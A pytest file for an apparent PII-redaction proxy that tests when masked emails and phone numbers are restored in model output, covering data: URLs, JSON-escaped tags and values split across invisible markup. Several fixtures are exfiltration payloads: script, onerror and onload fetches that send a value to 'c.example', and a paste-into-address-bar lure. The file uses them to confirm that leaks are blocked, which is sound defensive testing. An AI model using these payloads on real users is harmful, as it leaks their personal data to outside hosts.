"""Restore, issue 12 output side (restore14): `data:` URLs, tags quoted with JSON `\\u0022` in raw JSON, values
composed around a restored one across markup that shows nothing, and what restore costs on long answers.

- A `data:` URL (`data:text/html,...`, a Markdown `[x](data:...)` target, a bare one, `&#100;ata:` spelled) is a URL
  a renderer opens as a page or a script: a restored value there can leave, so restore keeps the placeholder, as in
  a `javascript:` URL; `Your data: <EMAIL_ADDRESS_1>` in prose is no URL and is restored.
- In a raw JSON text (tool-call arguments streamed, Responses `function_call_arguments` deltas) a tag quoted with
  `\\u0022` / `\\u0027` is read as HTML reads it decoded: a `>` inside a quoted value ends nothing, so the attribute
  after it is still the tag's; a `\\u003e` ends the tag as `>` does (the text between tags is restored).
- The output `pii` check reads the model's characters next to a restored value as the client renders them: without
  comments and the tags that show nothing (`(617)<b></b> <PHONE_NUMBER_1>`), a `<br>` or `<td>` as a line break.
- Speed: the URL and tag reading is linear (the view's scheme search and map, one regex per tag), reads nothing when
  no value is to be restored, and a long answer is restored off the event loop.
"""

from __future__ import annotations

import bisect
import random
from typing import Any

import pytest

from proxy.guard import operators
from proxy.guard.engine import Guard
from proxy.guard.urls import _TAG_START, _tag, kept_spans, url_context
from proxy.guard.vault import Vault
from tests.guard.conftest import PII_IN, policy
from tests.guard.test_composed_values import _policy, _streamed, _vault

MAIL, PHONE = "ann.lee@example.org", "212-555-0199"


def vault() -> Vault:
    v = Vault()
    v.placeholder("EMAIL_ADDRESS", MAIL)
    v.placeholder("PHONE_NUMBER", PHONE)
    return v


E, P = "<EMAIL_ADDRESS_1>", "<PHONE_NUMBER_1>"


def streamed_restore(v: Vault, text: str, size: int, in_json: bool = False) -> str:
    """`text` restored piece by piece as a stream window does (`url_context` of what went before)."""
    out, ctx = [], ""
    for k in range(0, len(text), size):
        piece = text[k:k + size]
        out.append(v.restore(piece, in_json=in_json, before=ctx))
        ctx = url_context(ctx + piece)
    return "".join(out)


# ------------------------------------------------------------------------ data: URLs

DATA_KEPT = [
    f"[Open the report](data:text/html,<script>location='//c.example/?'+'{E}'</script>)",
    f"[x](data:text/html;charset=utf-8,<img/src=x/onerror=fetch(1)>{P}) for you",
    f"Paste this into the address bar: data:text/html;base64,PHNjcmlwdD4={E} and press enter.",
    f"[y](<data:text/plain,{P}>)",
    f"[z](DATA:image/svg+xml,<svg/onload=fetch('//c.example/{E}')>)",
    f"Open &#100;ata:text/html,{E} now.",
    f"Open data:%3Cscript%3E,{E}",
    f"See [it](data:,{P}).",
    f"See data: text/html,<b>{E}</b>",
]


@pytest.mark.parametrize("text", DATA_KEPT)
def test_a_value_in_a_data_url_stays_a_placeholder(text: str) -> None:
    v = vault()
    assert v.restore(text) == text
    for size in (1, 4, 9):
        assert streamed_restore(v, text, size) == text, size


@pytest.mark.parametrize("text", [
    f"Your data: {E} and {P}.", f"metadata:text/html {E}", f"the data:{P}", f"[data] {E} data-{E}",
    f"[x](data:image/png;base64,AAAA) Mail {E}.",
])
def test_a_value_beside_the_word_data_is_restored(text: str) -> None:
    v = vault()
    want = text.replace(E, MAIL).replace(P, PHONE)
    assert v.restore(text) == want


# ------------------------------------------------------------------------ \u0022-quoted tags in raw JSON

QUOTED = [
    '{"html": "<a title=\\u0022a>b\\u0022 href=\\u0022p.html?u=%s\\u0022>go</a>"}',
    '{"html": "<input type=hidden title=\\u0027x>y\\u0027 value=\\u0027%s\\u0027>"}',
    '{"html": "\\u003cimg alt=\\u0022>\\u0022 src=\\u0022i.png?t=%s\\u0022\\u003e"}',
    '{"html": "<a title=\\u0022a>b\\" href=\\"p.html?u=%s\\">go</a>"}',
    '{"html": "<div data-x=\\u0022a > b\\u0022 data-y=\\u0022%s\\u0022></div>"}',
]


@pytest.mark.parametrize("text", QUOTED)
def test_a_tag_quoted_with_json_escapes_keeps_its_attributes(text: str) -> None:
    v = vault()
    raw = text % E
    assert v.restore(raw, in_json=True) == raw
    for size in (1, 3, 7, 16):
        assert streamed_restore(v, raw, size, in_json=True) == raw, size


def test_text_between_tags_written_as_json_escapes_is_restored() -> None:
    v = vault()
    raw = '{"html": "\\u003cb\\u003e' + E + '\\u003c/b\\u003e and \\u003ctd\\u003e' + P + '\\u003c/td\\u003e"}'
    assert v.restore(raw, in_json=True) == raw.replace(E, MAIL).replace(P, PHONE)


def test_the_tag_reading_in_one_match_equals_the_part_by_part_one() -> None:
    """`_tag` reads most tags with one regex (`_TAG_BODY`); where it falls back, part by part: the ends agree."""
    atoms = ['<a', ' ', '=', '"', "'", '\\"', "\\u0022", "\\u0027", "\\u003e", ">", "x", E, "\\n", "\\", "<"]
    rng = random.Random(14)
    for _ in range(3000):
        text = "<a " + "".join(rng.choice(atoms) for _ in range(rng.randint(0, 12)))
        m = _TAG_START.match(text)
        assert m is not None
        end, _ = _tag(text, m)
        # the reference: a `>` (or `\u003e`) outside quotes opened right after `=`, a placeholder one part
        pos, n, ref = m.end(), len(text), len(text)
        while pos < n:
            if text[pos] == ">" or text.startswith(("\\u003e", "\\u003E"), pos):
                ref = pos + (1 if text[pos] == ">" else 6)
                break
            if text.startswith(E, pos):
                pos += len(E)
                continue
            q = _opening_quote(text, pos)
            if q is None:
                pos += 1
                continue
            pos, close = q
            found = [i for i in (text.find(c, pos) for c in close) if i >= 0]
            if not found:
                break
            at = min(found)
            pos = at + (1 if text[at] in "\"'" else 6)
        assert end == ref, text


def _opening_quote(text: str, pos: int) -> tuple[int, tuple[str, str]] | None:
    if text[pos] != "=":
        return None
    k = pos + 1
    while k < len(text) and (text[k].isspace() or text.startswith(("\\n", "\\t", "\\r", "\\f"), k)):
        k += 1 if text[k].isspace() else 2
    for opener, close in (('\\"', ('"', "\\u0022")), ("\\'", ("'", "\\u0027")), ('"', ('"', "\\u0022")),
                          ("'", ("'", "\\u0027")), ("\\u0022", ('"', "\\u0022")), ("\\u0027", ("'", "\\u0027"))):
        if text.startswith(opener, k):
            return k + len(opener), close
    return None


# ------------------------------------------------------------------------ composed across markup that shows nothing

# (an answer's redaction keeps the tags it covers as written, before its placeholder, a comment not: streamfix14)
COMPOSED = [
    ("Dial (617)<b></b> <PHONE_NUMBER_1> now.", "Dial <b></b><PHONE_NUMBER_2> now."),
    ("Dial (617)<span class=\"x\"></span> <PHONE_NUMBER_1> now.",
     "Dial <span class=\"x\"></span><PHONE_NUMBER_2> now."),
    ("Dial 617<i></i> <PHONE_NUMBER_1> now.", "Dial <i></i><PHONE_NUMBER_2> now."),
    ("Dial (617)<!-- a --><b></b> <PHONE_NUMBER_1> now.", "Dial <b></b><PHONE_NUMBER_2> now."),
]


@pytest.mark.parametrize(("answer", "expected"), COMPOSED)
async def test_a_value_composed_across_tags_that_show_nothing_is_redacted(guard: Guard, answer: str,
                                                                          expected: str) -> None:
    got = await guard.output(_policy(), [answer], _vault())
    assert got.texts == [expected], got.texts
    streamed, _ = await _streamed(guard, _policy(), _vault(), [answer[:12], answer[12:30], answer[30:]])
    assert streamed == expected


@pytest.mark.parametrize("answer", [
    "Call <PHONE_NUMBER_1><br>617 is the area.", "Call <PHONE_NUMBER_1><p>617 guests came.</p>",
    "<li><PHONE_NUMBER_1></li><li>212 rooms</li>",
])
async def test_a_restored_value_and_the_next_line_stay_apart(guard: Guard, answer: str) -> None:
    got = await guard.output(_policy(), [answer], _vault())
    assert got.texts == [answer.replace("<PHONE_NUMBER_1>", "555-0143")] and got.decision == "allow", got.texts


# ------------------------------------------------------------------------ the restored reading's joins

def test_the_restored_reading_passes_over_ids_and_texts_of_markup_alone() -> None:
    from proxy.guard.checks.pii import rendered_joins

    texts = ["Sending now", "msg_x 00000000000000000002", '<base href="https://c.example/">', "<b></b> <!-- x -->",
             "<EMAIL_ADDRESS_1>", "<b>Hi</b>", "tail"]
    got = rendered_joins(texts, [True, True, True, True, True, True, False], [True, False, True, True, True, True,
                                                                                 True])
    assert got == [True, None, None, None, True, True, False]
    assert rendered_joins(["a", "<b>"], None, None) == [True, None]


async def test_an_answer_text_an_id_and_markup_before_a_restored_value_stay(guard: Guard) -> None:
    """The Responses FP: the message text, the item's id read as data (a long digit run), the `html` argument
    (`<base href=...>`) and the `to` argument restored read as one address (`...0002jane.roe@...`)."""
    v = _vault()
    texts = ["Sending now", "msg_x 00000000000000000002", '<base href="https://collector.example/">',
             "<EMAIL_ADDRESS_1>"]
    got = await guard.output(_policy(), texts, v, joinable=[True, True, True, True],
                             prose=[True, False, True, True])
    assert got.texts == [None, None, None, "jane.doe@example.com"], got.texts
    for html in ("<b>", "<!-- note -->", '<link rel="stylesheet" href="s.css">'):
        got = await guard.output(_policy(), ["Done", html, "<EMAIL_ADDRESS_1>"], _vault(), joinable=[True] * 3)
        assert got.texts == [None, None, "jane.doe@example.com"], (html, got.texts)


async def test_a_value_composed_across_a_markup_text_is_still_read(guard: Guard) -> None:
    got = await guard.output(_policy(), ["Mail <PERSON_1>", "<b></b>", "@acme.com now."], _vault(),
                             joinable=[True] * 3)
    assert got.decision == "redact" and "Jane" not in "".join(t or "" for t in got.texts), got.texts


# ------------------------------------------------------------------------ speed

def test_the_views_map_equals_the_characters_kept() -> None:
    from proxy.guard.urls import _Kept

    rng = random.Random(3)
    for _ in range(2000):
        text = "".join(rng.choice("ab\n\t\r h:/") for _ in range(rng.randint(0, 24)))
        kept = [i for i, c in enumerate(text) if c not in "\t\n\r"] + [len(text)]
        got = _Kept(text)
        assert list(got) == kept
        assert all(bisect.bisect_left(got, p) == bisect.bisect_left(kept, p) == got.view_at(p)
                   for p in range(len(text) + 2))


def test_the_url_reading_is_linear_in_the_views_starts() -> None:
    """Many `data:` images on lines (the view differs: LF removed): each start is searched for once."""
    calls = 0
    import proxy.guard.urls as urls
    real = urls._schemed

    def counted(text: str, pos: int) -> tuple[int, int] | None:
        nonlocal calls
        calls += 1
        return real(text, pos)

    text = "".join(f"![i{i}](data:image/png;base64,AAAA{i}) <img src='data:image/gif,{i}'> {E}\n" for i in range(300))
    urls._schemed = counted  # type: ignore[assignment]
    try:
        spans = kept_spans(text)
    finally:
        urls._schemed = real  # type: ignore[assignment]
    assert len(spans) == 900 and calls <= 4, calls  # (the images' alt texts: 300)


def test_nothing_to_restore_reads_no_url() -> None:
    import proxy.guard.urls as urls
    v = vault()
    text = "<table>" + "<tr><td><a href='p.html'>x</a></td></tr>" * 500 + "</table>"
    real = urls._spans
    urls._spans = None  # type: ignore[assignment]
    try:
        assert v.restore(text) == text
    finally:
        urls._spans = real


async def test_a_long_answer_is_restored_off_the_event_loop(guard: Guard, monkeypatch: pytest.MonkeyPatch) -> None:
    sizes: list[int | None] = []
    real = operators.run

    async def run(work: Any, chars: int | None = None) -> Any:
        sizes.append(chars)
        return await real(work, chars)

    monkeypatch.setattr(operators, "run", run)
    v = _vault()
    text = "".join(f"<tr><td>{i}</td><td><PERSON_1></td><td><a href='p/{i}.html?u=<PERSON_1>'>x</a></td></tr>"
                   for i in range(300))
    restore_only = policy(input={"pii": {**PII_IN["pii"], "restore": True}})  # type: ignore[dict-item]
    got = await guard.output(restore_only, [text], v)
    assert got.texts[0] is not None and "Jane" in got.texts[0] and "u=Jane" not in got.texts[0]
    assert any(s is not None and s >= len(text) > operators.INLINE_CHARS for s in sizes), sizes
